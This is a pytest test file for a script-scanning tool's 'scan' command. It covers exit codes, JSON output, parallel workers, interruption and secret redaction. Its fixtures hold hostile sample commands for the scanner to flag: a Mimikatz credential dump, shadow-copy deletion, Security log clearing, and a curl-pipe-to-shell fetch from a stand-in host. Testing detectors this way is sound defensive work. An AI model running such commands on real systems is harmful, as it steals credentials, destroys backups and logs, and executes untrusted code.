"""`inspector scan` behaves like a scanner other programs can drive: JSON Lines and clamscan exit codes."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from tests.processes import children, until_gone
from tests.timing import GIVE_UP_S

BIN = Path(sys.executable).parent / "inspector"
BAD = "Invoke-Mimikatz -DumpCreds\nvssadmin delete shadows /all /quiet\n"
GOOD = "Get-Service | Where-Object Status -eq Running\n"
CSE = {"properties": {"publisher": "Microsoft.Compute", "type": "CustomScriptExtension", "typeHandlerVersion": "1.10",
                      "settings": {"commandToExecute": "cmd /c vssadmin delete shadows /all /quiet & wevtutil cl Security"}}}


def run(*args: str, stdin: str | None = None, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    full_env = {k: v for k, v in os.environ.items() if not k.startswith("INSPECTOR_")}
    full_env.update({"INSPECTOR_FETCH": "false", **(env or {})})
    return subprocess.run([str(BIN), *args], capture_output=True, text=True, input=stdin, env=full_env, timeout=GIVE_UP_S)


@pytest.fixture
def inputs(tmp_path: Path) -> dict[str, Path]:
    files = {"good": tmp_path / "good.ps1", "bad": tmp_path / "bad.ps1", "cse": tmp_path / "cse.json",
             "broken": tmp_path / "broken.json"}
    files["good"].write_text(GOOD)
    files["bad"].write_text(BAD)
    files["cse"].write_text(json.dumps(CSE))
    files["broken"].write_text('{"properties": {')
    return files


def lines(stdout: str) -> list[dict[str, object]]:
    return [json.loads(line) for line in stdout.splitlines() if line.strip()]


def test_clean_input_exits_zero(inputs: dict[str, Path]) -> None:
    result = run("scan", "--json", str(inputs["good"]))
    assert result.returncode == 0, result.stderr
    [row] = lines(result.stdout)
    assert row["verdict"] == "clean" and row["input"] == str(inputs["good"])


def test_flagged_input_exits_one_with_one_json_line_per_input(inputs: dict[str, Path]) -> None:
    result = run("scan", "--json", str(inputs["good"]), str(inputs["bad"]), str(inputs["cse"]))
    assert result.returncode == 1, result.stderr
    rows = lines(result.stdout)
    assert [Path(str(r["input"])).name for r in rows] == ["good.ps1", "bad.ps1", "cse.json"]
    by_name = {Path(str(r["input"])).name: r for r in rows}
    assert by_name["bad.ps1"]["verdict"] in ("suspicious", "malicious")
    cse_alerts = [a["alertType"] for a in by_name["cse.json"]["alerts"]]  # type: ignore[index]
    assert "VM_CustomScriptExtensionSuspiciousCmd" in cse_alerts
    assert all("type" in a for a in by_name["cse.json"]["artifacts"])  # type: ignore[union-attr]


def test_broken_input_is_reported_beside_the_others_and_exits_two(inputs: dict[str, Path]) -> None:
    result = run("scan", "--json", str(inputs["broken"]), str(inputs["good"]))
    assert result.returncode == 2
    rows = lines(result.stdout)
    assert rows[0]["error"]["kind"] == "invalid_json"  # type: ignore[index]
    assert rows[1]["verdict"] == "clean"
    assert "Traceback" not in result.stderr


def test_missing_file_is_an_error_not_a_crash(tmp_path: Path) -> None:
    result = run("scan", "--json", str(tmp_path / "absent.ps1"))
    assert result.returncode == 2
    assert lines(result.stdout)[0]["error"]["kind"] == "unreadable"  # type: ignore[index]
    assert "Traceback" not in result.stderr


def test_directories_are_scanned_recursively(inputs: dict[str, Path], tmp_path: Path) -> None:
    nested = tmp_path / "deep" / "er"
    nested.mkdir(parents=True)
    (nested / "x.ps1").write_text(BAD)
    result = run("scan", "--json", str(tmp_path / "deep"))
    assert result.returncode == 1
    assert [Path(str(r["input"])).name for r in lines(result.stdout)] == ["x.ps1"]


def test_standard_input_is_scanned(inputs: dict[str, Path]) -> None:
    result = run("scan", "--json", "-", stdin=BAD)
    assert result.returncode == 1
    assert lines(result.stdout)[0]["input"] == "-"


def test_the_terminal_report_explains_the_verdict(inputs: dict[str, Path]) -> None:
    result = run("scan", str(inputs["cse"]))
    assert result.returncode == 1
    assert "MALICIOUS" in result.stdout or "SUSPICIOUS" in result.stdout
    assert "VM_CustomScriptExtensionSuspiciousCmd" in result.stdout
    assert "yara.core.shadow_copy_deletion" in result.stdout


def test_an_invalid_setting_stops_with_its_name(inputs: dict[str, Path]) -> None:
    result = run("scan", str(inputs["good"]), env={"INSPECTOR_MAX_DEPTH": "zero"})
    assert result.returncode == 2
    assert "INSPECTOR_MAX_DEPTH" in result.stderr
    assert "Traceback" not in result.stderr


def test_rules_check_names_the_failing_file_and_line(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "broken.yar").write_text("rule broken {\n  condition:\n    $nope\n}\n")
    result = run("rules", "check", env={"INSPECTOR_SIGNATURE_DIRS": str(rules)})
    assert result.returncode == 1
    assert f"{rules / 'broken.yar'}:" in result.stderr
    ok = run("rules", "check")
    assert ok.returncode == 0 and "rules from" in ok.stdout


def test_secrets_in_a_request_never_reach_the_output(tmp_path: Path) -> None:
    key = "k" * 86 + "=="
    body = {"properties": {"publisher": "Microsoft.Compute", "type": "CustomScriptExtension",
                           "typeHandlerVersion": "1.10", "settings": {},
                           "protectedSettings": {"commandToExecute": "powershell -File run.ps1",
                                                 "fileUris": ["https://acct.blob.core.windows.net/c/run.ps1?sv=2022&sig=SECRETSIG123"],
                                                 "storageAccountName": "acct", "storageAccountKey": key}}}
    path = tmp_path / "secret.json"
    path.write_text(json.dumps(body))
    result = run("scan", "--json", str(path))
    assert "SECRETSIG123" not in result.stdout and key not in result.stdout
    pretty = run("scan", str(path))
    assert "SECRETSIG123" not in pretty.stdout + pretty.stderr and key not in pretty.stdout


# --- every core: `--workers` ---------------------------------------------------------------

VOLATILE = ("id", "elapsed_ms", "created_at")  # differ between any two runs, one process or many


def comparable(stdout: str) -> list[dict[str, object]]:
    return [{k: v for k, v in row.items() if k not in VOLATILE} for row in lines(stdout)]


@pytest.fixture
def many(inputs: dict[str, Path], tmp_path: Path) -> Path:
    folder = tmp_path / "many"
    folder.mkdir()
    sources = [BAD, GOOD, json.dumps(CSE), '{"properties": {', "echo hi; curl -s http://x.example/a | sh\n"]
    for n in range(40):
        suffix = ".json" if n % 5 in (2, 3) else ".ps1" if n % 5 < 2 else ".sh"
        (folder / f"{n:03}{suffix}").write_text(sources[n % 5])
    return folder


def test_several_workers_print_what_one_process_prints_in_input_order(many: Path, tmp_path: Path) -> None:
    missing = str(tmp_path / "absent.ps1")
    one = run("scan", "--json", "--workers", "1", str(many), missing)
    two = run("scan", "--json", "--workers", "2", str(many), missing)
    assert one.returncode == two.returncode == 2, two.stderr
    assert comparable(two.stdout) == comparable(one.stdout)
    names = [str(row["input"]) for row in lines(two.stdout)]
    assert names == sorted(str(p) for p in many.iterdir()) + [missing]


def test_an_input_error_in_a_worker_stays_with_its_input(many: Path) -> None:
    result = run("scan", "--json", "--workers", "2", str(many))
    rows = lines(result.stdout)
    errors = [Path(str(r["input"])).name for r in rows if "error" in r]
    assert errors == [f"{n:03}.json" for n in range(40) if n % 5 == 3]
    assert all(r["error"]["kind"] == "invalid_json" for r in rows if "error" in r)  # type: ignore[index]
    assert len(rows) == 40 and "Traceback" not in result.stderr


def test_standard_input_is_read_by_the_parent_and_scanned_by_a_worker(inputs: dict[str, Path]) -> None:
    result = run("scan", "--json", "--workers", "2", str(inputs["good"]), "-", stdin=BAD)
    assert result.returncode == 1
    assert [r["input"] for r in lines(result.stdout)] == [str(inputs["good"]), "-"]


def _start_scan(folder: Path, *more: str) -> subprocess.Popen[bytes]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("INSPECTOR_")}
    env["INSPECTOR_FETCH"] = "false"
    command = [str(BIN), "scan", "--json", "--workers", "2", str(folder), *more]
    # Unbuffered pipes: the first line is read byte by byte and communicate() reads the rest from
    # the descriptor, so nothing read ahead into a buffer is skipped (a buffered readline() took
    # part of the second line with it, which then looked torn).
    return subprocess.Popen([sys.executable, "-c", _INTERRUPTIBLE, *command], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, bufsize=0, env=env,
                            start_new_session=True)


# The scan runs with SIGINT at its default, as a terminal's foreground job has it. A suite started
# as a background job of a non-interactive shell (as CI scripts start it) has SIGINT and SIGQUIT
# ignored from the start (POSIX shells do that for `&` jobs), and children inherit it: a process
# that starts with SIGINT ignored never turns SIGINT into KeyboardInterrupt, and the scan would
# finish as if no Ctrl-C had come. A disposition set to default survives exec, so reset it, then
# become the scan.
_INTERRUPTIBLE = "import os, signal, sys; signal.signal(signal.SIGINT, signal.SIG_DFL); os.execv(sys.argv[1], sys.argv[1:])"


@pytest.fixture
def clean_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "clean"
    folder.mkdir()
    for n in range(1500):
        (folder / f"{n:04}.ps1").write_text(GOOD + f"# {n}\n" * 50)
    return folder


def _workers_once_scanning(scan: subprocess.Popen[bytes]) -> set[int]:
    assert scan.stdout is not None
    first = b""
    while not first.endswith(b"\n"):  # a worker has analysed something: the pool is up
        byte = os.read(scan.stdout.fileno(), 1)
        if not byte:
            break
        first += byte
    assert first, scan.stderr.read() if scan.stderr else b""
    workers = children(scan.pid)
    assert len(workers) >= 2
    return workers


def test_ctrl_c_stops_the_workers_and_leaves_no_process(clean_folder: Path) -> None:
    # The last input is standard input, which the test keeps open: the scan cannot finish before
    # the interrupt, however fast the machine (communicate() closes it only afterwards).
    scan = _start_scan(clean_folder, "-")
    workers = _workers_once_scanning(scan)
    os.killpg(scan.pid, signal.SIGINT)  # what a terminal does: the whole process group
    output, errors = scan.communicate(timeout=GIVE_UP_S)
    out, err = output.decode(), errors.decode()
    assert scan.returncode == 1  # interrupted (every input finished would be 0)
    assert "-" not in [line["input"] for line in lines(out)]  # standard input was never finished
    assert "Traceback" not in err
    until_gone(workers)


def test_a_closed_pipe_stops_the_workers_and_leaves_no_process(clean_folder: Path) -> None:
    scan = _start_scan(clean_folder)
    workers = _workers_once_scanning(scan)
    assert scan.stdout is not None
    scan.stdout.close()  # `| head -1`
    scan.wait(timeout=GIVE_UP_S)
    assert scan.returncode != 0
    assert scan.stderr is not None and b"Traceback" not in scan.stderr.read()
    until_gone(workers)
